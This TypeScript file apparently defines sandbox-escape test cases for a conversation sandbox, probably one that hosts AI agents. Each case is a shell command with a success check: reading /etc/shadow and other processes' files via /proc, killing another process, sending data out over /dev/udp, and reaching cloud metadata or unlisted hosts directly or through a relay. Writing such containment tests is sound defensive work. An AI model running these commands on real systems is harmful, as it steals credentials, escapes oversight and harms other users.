/** What belongs to the machine: processes, memory, other places to leave something, the network. */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, MARK, quoted, request, say } from './attack.ts';
import type { Machine } from './machine.ts';
import { ADDRESSES, LISTED_PORT, WORLD_SAYS } from './world.ts';

const reached = (_machine: Machine, returned: string) => returned.includes(WORLD_SAYS);
const relayPort = ({ paths }: Machine) => Number(readFileSync(join(paths.host, 'relay.port'), 'utf8'));

function connects(id: string, what: string, host: string): Attack {
  return {
    id,
    tries: `Connects to ${what}`,
    heldFrom: 'sandbox',
    succeeded: reached,
    does: ({ world }) => say(host, world.port, request('GET', '/')),
  };
}

function asksRelay(id: string, what: string, host: string): Attack {
  return {
    id,
    tries: `Has the relay connect to ${what}`,
    heldFrom: 'none',
    succeeded: reached,
    does: (machine) => throughRelay(machine, `${host}:${machine.world.port}`),
  };
}

function throughRelay(machine: Machine, target: string): string {
  const asked = `CONNECT ${target} HTTP/1.1\r\nProxy-Authorization: Bearer TOKEN\r\n\r\n${request('GET', '/')}`;
  return say('127.0.0.1', relayPort(machine), asked).replace('TOKEN', `'"$PALIADIN_HOOK_TOKEN"'`);
}

export const SYSTEM: Attack[] = [
  {
    id: 'processes-listed',
    tries: 'Lists everybody’s processes, with the ids of their conversations',
    heldFrom: 'sandbox',
    does: () => `cat /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -Eo '^[0-9a-f-]{36}$'`,
    succeeded: (machine, returned) => returned.includes(machine.person('victim').conversation()),
  },
  {
    id: 'process-root',
    tries: 'Reads files through the directories of other processes',
    heldFrom: 'sandbox',
    does: ({ paths }) => `cat /proc/[0-9]*/root${paths.home}/Documents/diary.txt | head -c 200`,
  },
  {
    id: 'process-ended',
    tries: 'Ends a process of somebody else’s',
    heldFrom: 'sandbox',
    does: ({ world }) => `kill -9 ${world.process.pid}; sleep 0.1`,
    succeeded: ({ world }) => world.process.ended,
  },
  {
    id: 'shared-memory',
    tries: 'Looks into memory that programs share, and into `/tmp`',
    heldFrom: 'sandbox',
    does: (machine) => `cat ${sharedFiles(machine).map(quoted).join(' ')}`,
  },
  {
    id: 'accounts',
    tries: 'Reads who has an account on the machine',
    heldFrom: 'sandbox',
    does: () => 'cat /etc/passwd /etc/shadow | sha256sum; cat /etc/shadow',
    succeeded: (_machine, returned) =>
      returned.includes('root:') || returned.includes(sha256Of('/etc/passwd', '/etc/shadow')),
  },
  {
    id: 'huge-file',
    tries: 'Makes a file of 3 GB',
    heldFrom: 'sandbox',
    does: () => 'truncate -s 3G huge && echo made; rm -f huge',
    succeeded: (_machine, returned) => returned.includes('made'),
  },
  {
    id: 'memory-bomb',
    tries: 'Uses up the memory, so that somebody else’s process is ended for it',
    heldFrom: 'sandbox',
    // Looked at only: whose process goes first.
    does: () => 'echo "first: $(cat /proc/self/oom_score_adj)"',
    succeeded: (_machine, returned) => !returned.includes('first: 1000'),
  },
  connects('loopback', 'another program’s port on the machine', '127.0.0.1'),
  connects('loopback-6', 'another program’s port on the machine, by IPv6', '::1'),
  connects('office', 'an address of the owner’s network', ADDRESSES.office),
  connects('internet', 'a host on the internet that the owner does not list', ADDRESSES.internet),
  connects('metadata', 'the address where clouds give out keys', ADDRESSES.metadata),
  asksRelay('relay-loopback', 'another program’s port on the machine', '127.0.0.1'),
  asksRelay(
    'relay-loopback-spelled',
    'another program’s port, by another spelling of its address',
    '[::ffff:127.0.0.1]',
  ),
  asksRelay('relay-office', 'an address of the owner’s network', ADDRESSES.office),
  asksRelay('relay-internet', 'a host that the owner does not list', ADDRESSES.internet),
  asksRelay('relay-metadata', 'the address where clouds give out keys', ADDRESSES.metadata),
  {
    id: 'dns',
    tries: 'Sends something out in a question for a name',
    heldFrom: 'sandbox',
    does: ({ world }) => `echo ${MARK} > /dev/udp/${ADDRESSES.internet}/${world.udpPort}; sleep 0.2`,
    succeeded: ({ world }) => world.datagrams.some((text) => text.includes(MARK)),
  },
  {
    id: 'abstract-socket',
    tries: 'Connects to a socket that lies in no directory',
    heldFrom: 'sandbox',
    does: ({ world }) => `socat -u ABSTRACT-CONNECT:${world.abstract} -`,
    succeeded: reached,
  },
];

/** No attack: the way through the relay is one, where the owner lists a host. Else nothing above would be shown by it. */
export const ASKS_FOR_LISTED: Attack = {
  id: 'relay-listed',
  tries: 'Has the relay connect to a host that the owner lists',
  heldFrom: 'none',
  does: (machine) => throughRelay(machine, `${ADDRESSES.internet}:${LISTED_PORT}`),
  succeeded: reached,
};

export function sharedFiles({ world }: Machine): string[] {
  return ['/dev/shm', '/tmp'].map((directory) => join(directory, world.abstract));
}

function sha256Of(...files: string[]): string {
  const hash = createHash('sha256');
  for (const file of files) hash.update(readFileSync(file));
  return hash.digest('hex');
}
